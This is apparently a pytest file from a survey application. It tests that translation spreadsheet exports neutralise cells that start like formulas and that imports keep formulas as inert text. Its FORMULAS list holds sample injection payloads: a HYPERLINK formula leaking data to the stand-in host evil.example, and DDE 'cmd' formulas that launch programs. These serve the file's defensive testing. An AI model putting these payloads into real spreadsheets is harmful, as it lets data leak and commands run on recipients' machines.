"""Formula injection: the translation spreadsheet never carries a live formula, either way.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return before them) as a formula: ``=HYPERLINK(...)`` leaks data, DDE
formulas run commands. The export neutralises every such cell (a leading apostrophe); the
import takes a formula back as the text typed, never as a computed value.
"""
from __future__ import annotations

import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from surveyapp.questionnaire.loader import load_file
from surveyapp.questionnaire.translation_workflow import export_spreadsheet, import_spreadsheet

from ..conftest import DATA
from .helpers import small_definition, with_every_text, write_questionnaire

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def assert_inert(path) -> None:
    """No cell of any sheet is a formula, or a text that a spreadsheet would run as one."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found = max(xml.find("<f>"), xml.find("<f "))
                if found >= 0:
                    cell = xml[xml.rfind("<c ", 0, found):xml.find("</c>", found) + 4]
                    pytest.fail(f"{name} has a live formula: {cell}")
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_STARTS), (
                        f"{cell.coordinate} would run as a formula: {cell.value!r}"
                    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_export_neutralises_texts_that_look_like_formulas(tmp_path, formula):
    questionnaire = write_questionnaire(
        tmp_path / "small.yaml", with_every_text(small_definition(), lambda text: f"{formula} {text}")
    )
    sheet_path = export_spreadsheet(questionnaire, tmp_path / "out.xlsx", ["ar"])
    assert_inert(sheet_path)
    rows = load_workbook(sheet_path).active.iter_rows(min_row=3, values_only=True)
    values = [cell.replace("\r", "\n") for row in rows for cell in row if isinstance(cell, str)]
    # (XML turns a carriage return into a line feed when the file is read back)
    assert f"'{formula} Small survey".replace("\r", "\n") in values, "the text is kept, behind an apostrophe"


def test_import_takes_formulas_back_as_inert_text_and_reexport_neutralises_them(tmp_path):
    questionnaire = tmp_path / "small.yaml"
    shutil.copy(DATA / "small.yaml", questionnaire)
    sheet_path = export_spreadsheet(questionnaire, tmp_path / "so.xlsx", ["so"])
    workbook = load_workbook(sheet_path)
    sheet = workbook.active
    rows = list(range(3, sheet.max_row + 1))
    for index, row in enumerate(rows):
        # written as real formulas (openpyxl stores a string starting with "=" as one)
        sheet.cell(row=row, column=5).value = FORMULAS[index % len(FORMULAS)] if index < len(FORMULAS) else "=1+1"
    workbook.save(sheet_path)
    with zipfile.ZipFile(sheet_path) as archive:
        assert "<f>" in archive.read("xl/worksheets/sheet1.xml").decode(), "the test sheet holds real formulas"

    import_spreadsheet(questionnaire, sheet_path)
    loaded = load_file(questionnaire)
    imported = [text.get("so") for _, text in loaded.texts]
    assert imported[0] == FORMULAS[0], "the formula is kept as the text typed, never computed"
    assert all(isinstance(value, str) for value in imported if value is not None)

    again = export_spreadsheet(questionnaire, tmp_path / "again.xlsx", ["so"])
    assert_inert(again)


def test_a_spreadsheet_cannot_plant_a_formula_in_the_next_export(tmp_path):
    """A column headed like a formula in one translator's file must not become a live header
    cell in the spreadsheet sent to the next translator."""
    questionnaire = tmp_path / "small.yaml"
    shutil.copy(DATA / "small.yaml", questionnaire)
    sheet_path = export_spreadsheet(questionnaire, tmp_path / "in.xlsx", ["so"])
    workbook = load_workbook(sheet_path)
    sheet = workbook.active
    column = sheet.max_column + 1
    sheet.cell(row=1, column=column).value = "=2+3"  # a formula cell; read back as its text
    sheet.cell(row=2, column=column).value = "draft"
    for row in range(3, sheet.max_row + 1):
        sheet.cell(row=row, column=column).value = "x"
    workbook.save(sheet_path)
    try:
        import_spreadsheet(questionnaire, sheet_path)
    except Exception as exc:  # noqa: BLE001 - refusing the column is a fine outcome
        from surveyapp.questionnaire.translation_workflow import TranslationImportError

        assert isinstance(exc, TranslationImportError), f"refused, but not cleanly: {exc!r}"
    assert_inert(export_spreadsheet(questionnaire, tmp_path / "next.xlsx"))


def test_export_header_of_a_requested_language_is_inert(tmp_path):
    questionnaire = tmp_path / "small.yaml"
    shutil.copy(DATA / "small.yaml", questionnaire)
    try:
        sheet_path = export_spreadsheet(questionnaire, tmp_path / "out.xlsx", ["=1+2"])
    except Exception as exc:  # noqa: BLE001 - refusing a language that is no language code is fine
        from surveyapp.questionnaire.translation_workflow import TranslationImportError

        assert isinstance(exc, TranslationImportError), f"refused, but not cleanly: {exc!r}"
        return
    assert_inert(sheet_path)
